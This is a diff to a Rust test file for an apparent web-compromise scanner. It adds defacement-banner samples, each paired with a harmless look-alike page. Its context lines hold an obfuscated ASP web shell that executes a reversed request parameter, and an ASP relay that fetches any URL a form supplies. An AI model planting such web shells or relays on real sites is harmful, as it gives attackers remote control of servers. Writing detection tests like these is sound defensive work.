@@ -132,6 +132,16 @@ fn cases() -> Vec<(&'static str, Vec<u8>, Vec<u8>)> {
             j(&["<%\nFunction ttg(c)\nfor i = 1 to len(c) : m = mid(c, i, 1) : d = instr(k, m) : t = m & t : next\nttg = t\nEnd Function\npvr = ttg(request(\"p\")) : ex", "ecute pvr\n%>"]),
         ),
         (
+            "exsweep_defacement_banner",
+            j(&["<html><head><title>Hac", "ked By Some Crew</title></head><body>x</body></html>"]),
+            j(&["<html><head><title>How to tell whether your site was hac", "ked</title></head><body>Sites hac", "ked by bots ...</body></html>"]),
+        ),
+        (
+            "exsweep_defacement_banner",
+            j(&["<center><b>Hac", "ked! Own", "ed by Some Team!</b></center>"]),
+            j(&["<center><b>Owned</b> by the city council</center>"]),
+        ),
+        (
             "exsweep_asp_request_relay",
             j(&["<%\np = request.form(\"p\")\nSet h = Server.CreateObject(\"Microsoft.XML", "HTTP\")\nh.Open \"GET\", \"\"&p&\"\", false\nh.Send\nk = server.htmlEncode(h.ResponseText)\nresponse.write k\n%>"]),
             j(&["<%\nw = request(\"wd\")\nSet h = Server.CreateObject(\"Microsoft.XML", "HTTP\")\nh.Open \"GET\", url, false\nh.Send\nrank = strcut(BytesToBstr(h.ResponseBody), \"<b>\", \"</b>\")\nresponse.write rank\n%>"]),
